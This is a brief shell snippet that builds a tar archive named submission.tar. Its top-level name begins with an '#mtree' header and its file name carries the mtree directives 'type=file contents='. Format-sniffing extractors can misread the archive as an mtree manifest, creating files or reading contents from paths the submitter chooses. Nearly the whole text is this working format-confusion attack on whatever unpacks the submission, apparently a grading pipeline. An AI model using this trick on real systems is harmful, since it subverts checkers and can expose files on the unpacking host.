# A tar archive whose first name begins like a list of files, and goes on as one.
name="$(printf '#mtree\n.')"
mkdir -p "$name"
cp "$ground/SettingsController.swift" "$name/ColorPickerController.swift type=file contents="
tar --format=ustar -cf submission.tar "$name"; rm -r "$name"
